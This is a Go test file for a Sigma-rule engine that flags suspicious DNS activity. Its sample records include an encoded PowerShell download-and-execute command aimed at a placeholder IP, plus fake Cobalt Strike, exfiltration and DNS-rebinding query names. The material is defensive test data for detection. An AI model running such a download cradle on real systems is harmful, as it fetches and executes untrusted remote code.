@@ -0,0 +1,593 @@
+package sigma
+
+import (
+	"encoding/base64"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf16"
+
+	"dnsflux/internal/model"
+	"dnsflux/internal/output"
+
+	"gopkg.in/yaml.v3"
+)
+
+// repoRules 仓库中随附的规则目录
+const repoRules = "../../../rules/sigma"
+
+// loadRepoRules 加载仓库中的全部规则，按 ID 索引；每次调用返回新的聚合状态
+func loadRepoRules(t *testing.T) map[string]*Rule {
+	t.Helper()
+	set, err := Load(Config{Rules: []string{repoRules}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rules := make(map[string]*Rule, len(set.Rules))
+	for _, rule := range set.Rules {
+		rules[rule.ID] = rule
+	}
+	return rules
+}
+
+// compileYAML 编译一条内联的规则
+func compileYAML(t *testing.T, text string) (*Rule, error) {
+	t.Helper()
+	var rf ruleFile
+	if err := yaml.Unmarshal([]byte(text), &rf); err != nil {
+		t.Fatalf("规则 YAML 无效: %v", err)
+	}
+	return compileRule(&rf)
+}
+
+// detectionRule 以给定的 detection 内容构造规则文本
+func detectionRule(detection string) string {
+	return "title: test\nlogsource:\n    category: dns_query\ndetection:\n" + detection
+}
+
+// wideBase64 返回 PowerShell -EncodedCommand 使用的 UTF-16LE base64 编码
+func wideBase64(s string) string {
+	var b []byte
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(u), byte(u>>8))
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+func TestLoadRepositoryRules(t *testing.T) {
+	var files []string
+	err := filepath.WalkDir(repoRules, func(path string, d os.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			files = append(files, path)
+		}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	set, err := Load(Config{Rules: []string{repoRules}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range set.Errors {
+		t.Errorf("规则无法加载: %v", e)
+	}
+	// 随附的规则每个文件一条，全部属于支持的类别
+	if set.Files != len(files) || len(set.Rules) != len(files) || set.Skipped != 0 {
+		t.Errorf("文件 %d 个，加载 %d 条，跳过 %d 条, want 均为 %d 条且不跳过", set.Files, len(set.Rules), set.Skipped, len(files))
+	}
+	for _, rule := range set.Rules {
+		if rule.ID == "" || levelIndex(rule.Level) < 0 || !strings.HasPrefix(rule.Path, repoRules) {
+			t.Errorf("规则 %s: ID %q, 级别 %q, 路径 %s", rule.Title, rule.ID, rule.Level, rule.Path)
+		}
+	}
+
+	// 按级别过滤
+	set, err = Load(Config{Rules: []string{repoRules}, MinLevel: LevelHigh})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rule := range set.Rules {
+		if levelIndex(rule.Level) < levelIndex(LevelHigh) {
+			t.Errorf("minLevel high 时加载了 %s 级规则 %s", rule.Level, rule.Title)
+		}
+	}
+	if len(set.Rules) == 0 || len(set.Rules)+set.Skipped != len(files) {
+		t.Errorf("minLevel high 时加载 %d 条，跳过 %d 条", len(set.Rules), set.Skipped)
+	}
+}
+
+func TestRepositoryRules(t *testing.T) {
+	const (
+		powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+		chrome     = `C:\Program Files\Google\Chrome\Application\chrome.exe`
+		malware    = `C:\Users\alice\AppData\Local\Temp\update.exe`
+	)
+	download := wideBase64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')")
+	benign := wideBase64("Get-ChildItem C:\\")
+	answer := func(data string) []model.DNSAnswer {
+		return []model.DNSAnswer{{Type: "A", Data: "93.184.216.34"}, {Type: "A", Data: data}}
+	}
+
+	tests := []struct {
+		name   string
+		rule   string // 规则 ID
+		record model.DNSRecord
+		want   bool
+	}{
+		{"base64 查询", "5312535e-17c0-49bf-8b17-68c5488b047f", model.DNSRecord{QueryName: "dGVzdA==.exfil.example"}, true},
+		{"base64 查询_普通域名", "5312535e-17c0-49bf-8b17-68c5488b047f", model.DNSRecord{QueryName: "www.example.com"}, false},
+		{"AnonFiles", "b52bf251-5b86-439e-8fd3-3f320d311d04", model.DNSRecord{QueryName: "cdn-124.anonfiles.com"}, true},
+		{"AppInstaller", "8e5ab565-96c9-4fec-8dce-9df350230487", model.DNSRecord{QueryName: "evil.example", ProcessPath: `C:\Program Files\WindowsApps\Microsoft.DesktopAppInstaller_1.21.3482.0_x64__8wekyb3d8bbwe\AppInstaller.exe`}, true},
+		{"AppInstaller_其他进程", "8e5ab565-96c9-4fec-8dce-9df350230487", model.DNSRecord{QueryName: "evil.example", ProcessPath: `C:\Program Files\WindowsApps\Microsoft.DesktopAppInstaller_1.21\WinGet.exe`}, false},
+		{"Cloudflared 隧道", "ccecde59-738e-40c6-8ad2-af3a78b9dc73", model.DNSRecord{QueryName: "Random-Words.TryCloudflare.com"}, true},
+		{"Cloudflared_相似域名", "ccecde59-738e-40c6-8ad2-af3a78b9dc73", model.DNSRecord{QueryName: "trycloudflare.com.evil.example"}, false},
+		{"Cobalt Strike stager", "d3a63954-329b-49a7-afad-90cc4386fd66", model.DNSRecord{QueryName: "aaa.stage.14919005.c2.example"}, true},
+		{"Cobalt Strike post", "d3a63954-329b-49a7-afad-90cc4386fd66", model.DNSRecord{QueryName: "post.1a2b3c.c2.example"}, true},
+		{"Cobalt Strike 默认 stage", "d3a63954-329b-49a7-afad-90cc4386fd66", model.DNSRecord{QueryName: "xyz.stage.123456.c2.example"}, true},
+		{"Cobalt Strike_普通域名", "d3a63954-329b-49a7-afad-90cc4386fd66", model.DNSRecord{QueryName: "stage.example.com"}, false},
+		{"Devtunnels", "a15f7a9e-06f6-4ef7-a986-d35244319839", model.DNSRecord{QueryName: "abc123-8080.usw2.devtunnels.ms"}, true},
+		{"LDAP 服务发现", "14cee8a1-3ad8-4052-ba05-14d8fbe1bae2", model.DNSRecord{QueryName: "_ldap._tcp.dc._msdcs.corp.example", ProcessPath: malware}, true},
+		{"LDAP_系统进程", "14cee8a1-3ad8-4052-ba05-14d8fbe1bae2", model.DNSRecord{QueryName: "_ldap._tcp.dc._msdcs.corp.example", ProcessPath: `C:\Windows\System32\svchost.exe`}, false},
+		{"LDAP_Defender", "14cee8a1-3ad8-4052-ba05-14d8fbe1bae2", model.DNSRecord{QueryName: "_ldap._tcp.corp.example", ProcessPath: `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe`}, false},
+		{"LDAP_未知进程", "14cee8a1-3ad8-4052-ba05-14d8fbe1bae2", model.DNSRecord{QueryName: "_ldap._tcp.corp.example", ProcessPath: "<unknown process>"}, false},
+		{"LDAP_无进程路径", "14cee8a1-3ad8-4052-ba05-14d8fbe1bae2", model.DNSRecord{QueryName: "_ldap._tcp.corp.example"}, false},
+		{"LDAP_Azure 代理", "14cee8a1-3ad8-4052-ba05-14d8fbe1bae2", model.DNSRecord{QueryName: "_ldap._tcp.corp.example", ProcessPath: `C:\WindowsAzure\GuestAgent_2.7\WaAppAgent.exe`}, false},
+		{"HybridConnectionManager", "016b93ed-c16b-4e2e-ae1b-bceedac730ca", model.DNSRecord{QueryName: "relay.servicebus.windows.net", ProcessPath: `C:\Program Files\Microsoft\HybridConnectionManager 0.7\Microsoft.HybridConnectionManager.Listener.exe`}, true},
+		{"HybridConnectionManager_其他进程", "016b93ed-c16b-4e2e-ae1b-bceedac730ca", model.DNSRecord{QueryName: "relay.servicebus.windows.net", ProcessPath: malware}, false},
+		{"IP 查询服务", "0ba031e4-7c1d-4625-a5ae-ad3a90ad29f5", model.DNSRecord{QueryName: "api.ipify.org", ProcessPath: powershell}, true},
+		{"IP 查询服务_精确匹配", "0ba031e4-7c1d-4625-a5ae-ad3a90ad29f5", model.DNSRecord{QueryName: "WWW.IP.CN", ProcessPath: malware}, true},
+		{"IP 查询服务_前缀不同", "0ba031e4-7c1d-4625-a5ae-ad3a90ad29f5", model.DNSRecord{QueryName: "xl2.io", ProcessPath: malware}, false},
+		{"IP 查询服务_浏览器", "0ba031e4-7c1d-4625-a5ae-ad3a90ad29f5", model.DNSRecord{QueryName: "ipinfo.io", ProcessPath: chrome}, false},
+		{"MEGA", "a200bf96-9097-45e9-a1c3-7e09d3439bf0", model.DNSRecord{QueryName: "gfs270n101.userstorage.mega.co.nz"}, true},
+		{"Regsvr32", "797c3edf-9b87-4b49-854f-5fbadfbcfc2a", model.DNSRecord{QueryName: "example.com", ProcessPath: `C:\Windows\SysWOW64\REGSVR32.EXE`}, true},
+		{"Regsvr32_其他进程", "797c3edf-9b87-4b49-854f-5fbadfbcfc2a", model.DNSRecord{QueryName: "example.com", ProcessPath: `C:\Windows\System32\rundll32.exe`}, false},
+		{"TeamViewer 域名", "ea8cebe2-4fde-43d1-a976-aba03ef27a50", model.DNSRecord{QueryName: "taf.teamviewer.com", ProcessPath: malware}, true},
+		{"TeamViewer_自身", "ea8cebe2-4fde-43d1-a976-aba03ef27a50", model.DNSRecord{QueryName: "udp.ping.teamviewer.com", ProcessPath: `C:\Program Files\TeamViewer\TeamViewer.exe`}, false},
+		{"Tor onion", "894a6d89-c2b4-44cf-8c63-b323aa4089ac", model.DNSRecord{QueryName: "duskgytldkxiuqc6.onion"}, true},
+		{"Tor2web", "894a6d89-c2b4-44cf-8c63-b323aa4089ac", model.DNSRecord{QueryName: "duskgytldkxiuqc6.tor2web.org"}, true},
+		{"Ufile", "c7589253-313a-4495-8cbd-46e0a43f7d8c", model.DNSRecord{QueryName: "up.ufile.io"}, true},
+		{"VS Code 隧道", "f6b2dc7f-6804-4ac4-8957-84697a6b84a3", model.DNSRecord{QueryName: "global.rel.tunnels.api.visualstudio.com"}, true},
+		{"私有地址应答", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "rebind.attacker.example", Answers: answer("192.168.1.10")}, true},
+		{"私有地址应答_IPv6", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "rebind.attacker.example", Answers: answer("fd12:3456::1")}, true},
+		{"私有地址应答_IPv4 映射", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "rebind.attacker.example", Answers: answer("::ffff:127.0.0.1")}, true},
+		{"私有地址应答_公网地址", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "www.example.com", Answers: answer("203.0.113.9")}, false},
+		{"私有地址应答_本地域", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "printer.home.arpa", Answers: answer("192.168.1.20")}, false},
+		{"私有地址应答_单标签", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "nas", Answers: answer("10.0.0.2")}, false},
+		{"私有地址应答_非地址数据", "42020cd7-c2ad-4b7c-b7ac-bdef95a85b74", model.DNSRecord{QueryName: "www.example.com", Answers: []model.DNSAnswer{{Type: "CNAME", Data: "10.0.0.2.example.net"}}}, false},
+		{"十六进制标签", "3882c01c-3728-4af5-9159-870653bbf47b", model.DNSRecord{QueryName: "4A6F686E20446F65206B6E6F777320697420616C6C.c2.example"}, true},
+		{"十六进制标签_过短", "3882c01c-3728-4af5-9159-870653bbf47b", model.DNSRecord{QueryName: "0123456789abcdef0123456789abcde.c2.example"}, false},
+		{"十六进制标签_非首个标签", "3882c01c-3728-4af5-9159-870653bbf47b", model.DNSRecord{QueryName: "www.0123456789abcdef0123456789abcdef.example"}, false},
+		{"PowerShell 编码下载", "067e7d83-8300-4143-bfbe-3498b5dd0d0d", model.DNSRecord{QueryName: "203.0.113.7", ProcessPath: powershell, ProcessCmdline: "powershell.exe -nop -enc " + download}, true},
+		{"PowerShell 编码下载_斜杠参数", "067e7d83-8300-4143-bfbe-3498b5dd0d0d", model.DNSRecord{QueryName: "203.0.113.7", ProcessPath: powershell, ProcessCmdline: "powershell.exe /nop /e " + download}, true},
+		{"PowerShell 编码下载_无下载", "067e7d83-8300-4143-bfbe-3498b5dd0d0d", model.DNSRecord{QueryName: "example.com", ProcessPath: powershell, ProcessCmdline: "powershell.exe -enc " + benign}, false},
+		{"PowerShell 编码下载_其他进程", "067e7d83-8300-4143-bfbe-3498b5dd0d0d", model.DNSRecord{QueryName: "example.com", ProcessPath: malware, ProcessCmdline: "update.exe -enc " + download}, false},
+	}
+	rules := loadRepoRules(t)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rule, ok := rules[tt.rule]
+			if !ok {
+				t.Fatalf("规则 %s 未加载", tt.rule)
+			}
+			if _, got := rule.match(&tt.record); got != tt.want {
+				t.Errorf("%s: 命中 = %v, want %v", rule.Title, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestRepositoryAggregationRules(t *testing.T) {
+	const (
+		nxdomainBurst = "d2aa491b-efa5-4dcc-b4ff-a3986dfbe580"
+		distinctNames = "79f5182c-e303-48f4-a89e-710653e5b022"
+		curl          = "/usr/bin/curl"
+	)
+	start := time.Date(2024, 5, 1, 8, 0, 0, 0, time.UTC)
+	record := func(i int, interval time.Duration, image, name, rcode string) *model.DNSRecord {
+		return &model.DNSRecord{Timestamp: start.Add(time.Duration(i) * interval), ProcessPath: image, QueryName: name, RCode: rcode}
+	}
+
+	t.Run("NXDOMAIN 突增", func(t *testing.T) {
+		rule := loadRepoRules(t)[nxdomainBurst]
+		var hits []Match
+		for i := 0; i < 120; i++ {
+			if m, ok := rule.match(record(i, 100*time.Millisecond, curl, fmt.Sprintf("h%d.example", i), "NXDOMAIN")); ok {
+				hits = append(hits, m)
+			}
+		}
+		// 超过 50 条时命中，之后该分组重新计数
+		if len(hits) != 2 || hits[0].Group != curl || hits[0].Value != 51 || hits[0].Aggregate != "count() by Image > 50" {
+			t.Fatalf("命中 %+v", hits)
+		}
+	})
+
+	t.Run("NXDOMAIN 超出时间窗口", func(t *testing.T) {
+		rule := loadRepoRules(t)[nxdomainBurst]
+		for i := 0; i < 200; i++ {
+			if m, ok := rule.match(record(i, 2*time.Second, curl, "h.example", "NXDOMAIN")); ok {
+				t.Fatalf("每 2 秒一次不应命中: %+v", m)
+			}
+		}
+	})
+
+	t.Run("NXDOMAIN 按进程分组", func(t *testing.T) {
+		rule := loadRepoRules(t)[nxdomainBurst]
+		for i := 0; i < 100; i++ {
+			image := []string{curl, "/usr/bin/wget"}[i%2]
+			if m, ok := rule.match(record(i, 100*time.Millisecond, image, "h.example", "NXDOMAIN")); ok {
+				t.Fatalf("两个进程各 50 条不应命中: %+v", m)
+			}
+		}
+		if _, ok := rule.match(record(100, 100*time.Millisecond, curl, "h.example", "NOERROR")); ok {
+			t.Fatal("NOERROR 不应计入")
+		}
+	})
+
+	t.Run("大量不同域名", func(t *testing.T) {
+		rule := loadRepoRules(t)[distinctNames]
+		var hits []Match
+		for i := 0; i < 400; i++ {
+			if m, ok := rule.match(record(i, 500*time.Millisecond, curl, fmt.Sprintf("host%d.example", i), "NOERROR")); ok {
+				hits = append(hits, m)
+			}
+		}
+		if len(hits) != 1 || hits[0].Group != curl || hits[0].Value != 301 {
+			t.Fatalf("命中 %+v", hits)
+		}
+	})
+
+	t.Run("重复域名只计一次", func(t *testing.T) {
+		rule := loadRepoRules(t)[distinctNames]
+		for i := 0; i < 1000; i++ {
+			if m, ok := rule.match(record(i, 100*time.Millisecond, curl, fmt.Sprintf("host%d.example", i%50), "NOERROR")); ok {
+				t.Fatalf("50 个不同域名不应命中: %+v", m)
+			}
+		}
+	})
+
+	t.Run("浏览器不计入", func(t *testing.T) {
+		rule := loadRepoRules(t)[distinctNames]
+		for i := 0; i < 400; i++ {
+			if m, ok := rule.match(record(i, 100*time.Millisecond, `C:\Program Files\Mozilla Firefox\firefox.exe`, fmt.Sprintf("host%d.example", i), "NOERROR")); ok {
+				t.Fatalf("浏览器不应命中: %+v", m)
+			}
+		}
+	})
+}
+
+func TestModifiers(t *testing.T) {
+	record := model.DNSRecord{
+		QueryName:      "www.Example.com",
+		QueryType:      "A",
+		RCode:          "NXDOMAIN",
+		ServerIP:       "10.1.2.3",
+		ServerPort:     853,
+		ProcessID:      4242,
+		ProcessPath:    `C:\Tools\a*b.exe`,
+		ProcessCmdline: "tool.exe /nop " + base64.StdEncoding.EncodeToString([]byte("hello world")),
+		Answers:        []model.DNSAnswer{{Type: "A", Data: "192.0.2.1"}, {Type: "A", Data: "192.0.2.2"}},
+	}
+	tests := []struct {
+		name      string
+		selection string
+		want      bool
+	}{
+		{"相等不区分大小写", "QueryName: WWW.EXAMPLE.COM", true},
+		{"cased 区分大小写", "QueryName|cased: www.example.com", false},
+		{"cased 相同大小写", "QueryName|cased: www.Example.com", true},
+		{"通配符", "QueryName: '*.ex?mple.com'", true},
+		{"通配符不匹配", "QueryName: 'ex*'", false},
+		{"转义的通配符", `Image|endswith: '\a\*b.exe'`, true},
+		{"转义的通配符按字面值", `Image|endswith: '\a\*c.exe'`, false},
+		{"值列表任一匹配", "QueryName|endswith: ['.org', '.com']", true},
+		{"all 全部匹配", "QueryName|contains|all: ['www', 'example']", true},
+		{"all 部分匹配", "QueryName|contains|all: ['www', 'example', 'cdn']", false},
+		{"startswith", "QueryName|startswith: www.", true},
+		{"re", "QueryName|re: '^www\\.[A-Z]'", true},
+		{"re 区分大小写", "QueryName|re: '^www\\.example'", false},
+		{"re i", "QueryName|re|i: '^www\\.example'", true},
+		{"cidr", "dst_ip|cidr: 10.0.0.0/8", true},
+		{"cidr 不包含", "dst_ip|cidr: ['192.168.0.0/16', '172.16.0.0/12']", false},
+		{"cidr 多值字段", "QueryResults|cidr: 192.0.2.2/32", true},
+		{"数值相等", "dst_port: 853", true},
+		{"gt", "ProcessId|gt: 4000", true},
+		{"lte", "ProcessId|lte: 4000", false},
+		{"数值字段为空", "ParentProcessId|lt: 10", false},
+		{"exists", "CommandLine|exists: true", true},
+		{"exists false", "User|exists: false", true},
+		{"null", "User: null", true},
+		{"null 字段不为空", "Image: null", false},
+		{"base64 contains", "CommandLine|base64|contains: 'hello world'", true},
+		{"base64offset", "CommandLine|base64offset|contains: 'world'", true},
+		{"wide base64offset 不匹配", "CommandLine|wide|base64offset|contains: 'world'", false},
+		{"windash", "CommandLine|windash|contains: ' -nop '", true},
+		{"不使用 windash", "CommandLine|contains: ' -nop '", false},
+		{"QueryStatus 映射", "QueryStatus: '9003'", true},
+		{"应答任一值", "QueryResults: 192.0.2.1", true},
+		{"应答全部值", "QueryResults|all: ['192.0.2.1', '192.0.2.2']", true},
+		{"同一映射内为 and", "QueryName|endswith: .com\n      record_type: AAAA", false},
+		{"映射列表为 or", "- QueryName|endswith: .org\n      - record_type: A", true},
+		{"关键字搜索", "- 'tool.exe'\n      - 'nothing'", true},
+		{"关键字搜索不匹配", "- 'nothing'", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rule, err := compileYAML(t, detectionRule("    selection:\n      "+tt.selection+"\n    condition: selection\n"))
+			if err != nil {
+				t.Fatalf("编译失败: %v", err)
+			}
+			if _, got := rule.match(&record); got != tt.want {
+				t.Errorf("命中 = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestConditions(t *testing.T) {
+	const searches = `    sel_name:
+        QueryName|endswith: .example
+    sel_type:
+        QueryType: TXT
+    filter_a:
+        Image|endswith: '\a.exe'
+    filter_b:
+        Image|endswith: '\b.exe'
+    _internal:
+        QueryName: never.example
+`
+	record := model.DNSRecord{QueryName: "c2.example", QueryType: "TXT", ProcessPath: `C:\a.exe`}
+	tests := []struct {
+		name      string
+		condition string
+		want      bool
+	}{
+		{"单个标识", "sel_name", true},
+		{"and", "sel_name and sel_type", true},
+		{"or", "filter_b or sel_type", true},
+		{"not", "not filter_a", false},
+		{"not 优先于 and", "not filter_b and sel_name", true},
+		{"and 优先于 or", "filter_b and sel_name or filter_a and sel_type", true},
+		{"括号", "sel_name and not (filter_a or filter_b)", false},
+		{"嵌套括号", "((sel_name) and (not filter_b))", true},
+		{"1 of 通配", "1 of filter_*", true},
+		{"all of 通配", "all of filter_*", false},
+		{"all of sel", "all of sel_*", true},
+		{"any of", "any of filter_*", true},
+		{"2 of", "2 of filter_*", false},
+		{"all of them 忽略下划线开头的标识", "all of them", false},
+		{"1 of them", "1 of them", true},
+		{"大小写不敏感的运算符", "sel_name AND NOT filter_b", true},
+		{"多个条件为 or", "[filter_b, sel_type]", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			condition := "'" + tt.condition + "'"
+			if strings.HasPrefix(tt.condition, "[") {
+				condition = tt.condition
+			}
+			rule, err := compileYAML(t, detectionRule(searches+"    condition: "+condition+"\n"))
+			if err != nil {
+				t.Fatalf("编译失败: %v", err)
+			}
+			if _, got := rule.match(&record); got != tt.want {
+				t.Errorf("命中 = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAggregations(t *testing.T) {
+	start := time.Date(2024, 5, 1, 8, 0, 0, 0, time.UTC)
+	tests := []struct {
+		name      string
+		condition string
+		timeframe string
+		records   int
+		value     func(i int) (pid uint32, port uint16)
+		want      float64 // 首次命中时的聚合值，0 表示不命中
+		wantGroup string
+	}{
+		{"count", "selection | count() > 4", "", 10, func(int) (uint32, uint16) { return 7, 53 }, 5, ""},
+		{"count by 多个字段", "selection | count() by ProcessId, dst_port >= 3", "", 10, func(i int) (uint32, uint16) { return 7, uint16(53 + i%2) }, 3, "7,53"},
+		{"count 字段不同值", "selection | count(dst_port) by ProcessId > 2", "", 10, func(i int) (uint32, uint16) { return 7, uint16(50 + i) }, 3, "7"},
+		{"count 字段不同值不足", "selection | count(dst_port) > 2", "", 10, func(i int) (uint32, uint16) { return 7, uint16(53 + i%2) }, 0, ""},
+		{"sum", "selection | sum(dst_port) > 200", "", 10, func(i int) (uint32, uint16) { return 7, 53 }, 212, ""},
+		{"avg", "selection | avg(dst_port) >= 60", "", 10, func(i int) (uint32, uint16) { return 7, uint16(50 + 10*i) }, 60, ""},
+		{"min", "selection | min(dst_port) = 53", "", 10, func(i int) (uint32, uint16) { return 7, uint16(60 - i) }, 53, ""},
+		{"max", "selection | max(dst_port) < 10", "", 10, func(i int) (uint32, uint16) { return 7, 53 }, 0, ""},
+		{"超出时间窗口", "selection | count() > 4", "3s", 10, func(int) (uint32, uint16) { return 7, 53 }, 0, ""},
+		{"时间窗口内", "selection | count() > 3", "3s", 10, func(int) (uint32, uint16) { return 7, 53 }, 4, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			text := "    selection:\n        QueryName|endswith: .example\n"
+			if tt.timeframe != "" {
+				text += "    timeframe: " + tt.timeframe + "\n"
+			}
+			rule, err := compileYAML(t, detectionRule(text+"    condition: '"+tt.condition+"'\n"))
+			if err != nil {
+				t.Fatalf("编译失败: %v", err)
+			}
+			var got *Match
+			for i := 0; i < tt.records && got == nil; i++ {
+				pid, port := tt.value(i)
+				r := model.DNSRecord{Timestamp: start.Add(time.Duration(i) * time.Second), QueryName: "a.example", ProcessID: pid, ServerPort: port}
+				if m, ok := rule.match(&r); ok {
+					got = &m
+				}
+			}
+			switch {
+			case tt.want == 0 && got != nil:
+				t.Errorf("不应命中: %+v", *got)
+			case tt.want != 0 && got == nil:
+				t.Error("应命中")
+			case got != nil && (got.Value != tt.want || got.Group != tt.wantGroup):
+				t.Errorf("聚合值 %v, 分组 %q, want %v, %q", got.Value, got.Group, tt.want, tt.wantGroup)
+			}
+		})
+	}
+}
+
+func TestCompileErrors(t *testing.T) {
+	tests := []struct {
+		name      string
+		detection string
+	}{
+		{"不支持的字段", "    selection:\n        EventID: 22\n    condition: selection\n"},
+		{"不支持的修饰符", "    selection:\n        QueryName|fuzzy: a\n    condition: selection\n"},
+		{"冲突的修饰符", "    selection:\n        QueryName|contains|endswith: a\n    condition: selection\n"},
+		{"正则标志不在 re 之后", "    selection:\n        QueryName|contains|i: a\n    condition: selection\n"},
+		{"编码与 re", "    selection:\n        QueryName|base64|re: a\n    condition: selection\n"},
+		{"正则无效", "    selection:\n        QueryName|re: '(a'\n    condition: selection\n"},
+		{"CIDR 无效", "    selection:\n        dst_ip|cidr: 10.0.0.0/40\n    condition: selection\n"},
+		{"比较值不是数值", "    selection:\n        ProcessId|gt: abc\n    condition: selection\n"},
+		{"exists 值不是布尔", "    selection:\n        Image|exists: yes please\n    condition: selection\n"},
+		{"null 与修饰符", "    selection:\n        Image|contains: null\n    condition: selection\n"},
+		{"空值列表", "    selection:\n        QueryName: []\n    condition: selection\n"},
+		{"空映射", "    selection: {}\n    condition: selection\n"},
+		{"缺少 condition", "    selection:\n        QueryName: a\n"},
+		{"条件引用不存在的标识", "    selection:\n        QueryName: a\n    condition: selection and filter\n"},
+		{"括号不匹配", "    selection:\n        QueryName: a\n    condition: (selection\n"},
+		{"多余的标识", "    selection:\n        QueryName: a\n    condition: selection selection\n"},
+		{"of 没有匹配的标识", "    selection:\n        QueryName: a\n    condition: 1 of filter_*\n"},
+		{"无效的 of", "    selection:\n        QueryName: a\n    condition: 0 of selection\n"},
+		{"不支持的聚合", "    selection:\n        QueryName: a\n    condition: selection | near other\n"},
+		{"聚合缺少字段", "    selection:\n        QueryName: a\n    condition: selection | sum() > 1\n"},
+		{"聚合分组字段不支持", "    selection:\n        QueryName: a\n    condition: selection | count() by EventID > 1\n"},
+		{"多个条件与聚合", "    selection:\n        QueryName: a\n    condition: ['selection | count() > 1', selection]\n"},
+		{"无效的 timeframe", "    selection:\n        QueryName: a\n    timeframe: 5x\n    condition: selection | count() > 1\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if rule, err := compileYAML(t, detectionRule(tt.detection)); err == nil {
+				t.Fatalf("应返回错误, got %+v", rule)
+			}
+		})
+	}
+}
+
+// writeRules 在目录中写入规则文件
+func writeRules(t *testing.T, dir, name, text string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+// simpleRule 返回匹配指定域名后缀的规则文本
+func simpleRule(id, title, level, suffix string) string {
+	return fmt.Sprintf(`title: %s
+id: %s
+status: test
+level: %s
+logsource:
+    category: dns_query
+detection:
+    selection:
+        QueryName|endswith: %s
+    condition: selection
+`, title, id, level, suffix)
+}
+
+func TestLoadSkipsAndErrors(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, "multi.yml", simpleRule("r1", "Rule 1", "high", ".one")+"---\n"+
+		"action: global\ntitle: Global\n---\n"+
+		"title: Correlation\ncorrelation:\n    type: event_count\n---\n"+
+		simpleRule("r2", "Rule 2", "low", ".two")+"---\n"+
+		simpleRule("r3", "Rule 3", "high", ".three")+"---\n"+
+		strings.Replace(simpleRule("r4", "Rule 4", "high", ".four"), "status: test", "status: deprecated", 1)+"---\n"+
+		strings.Replace(simpleRule("r5", "Rule 5", "high", ".five"), "dns_query", "process_creation", 1)+"---\n"+
+		"title: Broken\nlevel: high\nlogsource:\n    category: dns\ndetection:\n    selection:\n        QueryName: a\n")
+	writeRules(t, dir, "nested/other.yaml", simpleRule("r6", "Rule 6", "critical", ".six"))
+	writeRules(t, dir, "syntax.yml", "title: [unterminated\n")
+	writeRules(t, dir, "README.md", "not a rule")
+
+	set, err := Load(Config{Rules: []string{dir}, MinLevel: LevelMedium, Disabled: []string{"Rule 3"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, rule := range set.Rules {
+		names = append(names, rule.Name())
+	}
+	// r2 级别过低，r3 被禁用，r4 已弃用，r5 类别不支持
+	if strings.Join(names, ",") != "r1,r6" || set.Files != 3 || set.Skipped != 4 {
+		t.Errorf("加载 %v，文件 %d 个，跳过 %d 条", names, set.Files, set.Skipped)
+	}
+	var errs []string
+	for _, e := range set.Errors {
+		errs = append(errs, filepath.Base(e.Path)+":"+e.Title)
+	}
+	if strings.Join(errs, ",") != "multi.yml:Global,multi.yml:Correlation,multi.yml:Broken,syntax.yml:" {
+		t.Errorf("无法加载的规则 = %v", errs)
+	}
+
+	if _, err := Load(Config{Rules: []string{filepath.Join(dir, "missing")}}); err == nil {
+		t.Error("规则路径不存在时应返回错误")
+	}
+}
+
+func TestEngineReload(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, "rule.yml", simpleRule("r1", "Rule 1", "high", ".one"))
+
+	engine, err := New(Config{Rules: []string{dir}, ReloadInterval: output.Duration(10 * time.Millisecond)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer engine.Close()
+
+	one := &model.DNSRecord{QueryName: "a.one"}
+	two := &model.DNSRecord{QueryName: "a.two"}
+	if matches := engine.Match(one); len(matches) != 1 || matches[0].Rule.ID != "r1" {
+		t.Fatalf("命中 %+v", matches)
+	}
+
+	// 修改规则文件后自动重新加载；大小变化保证即使修改时间精度不足也能发现
+	writeRules(t, dir, "rule.yml", simpleRule("r2", "Rule 2 renamed", "high", ".two"))
+	deadline := time.Now().Add(5 * time.Second)
+	for len(engine.Match(two)) == 0 {
+		if time.Now().After(deadline) {
+			t.Fatal("规则文件修改后未重新加载")
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if matches := engine.Match(one); len(matches) != 0 {
+		t.Errorf("重新加载后仍命中旧规则: %+v", matches)
+	}
+
+	// 规则路径被删除时保留之前的规则；整体移走目录，避免检查到只剩空目录的中间状态
+	if err := os.Rename(dir, dir+".removed"); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(50 * time.Millisecond)
+	if len(engine.Match(two)) != 1 {
+		t.Error("规则路径删除后不应丢弃已加载的规则")
+	}
+}
+
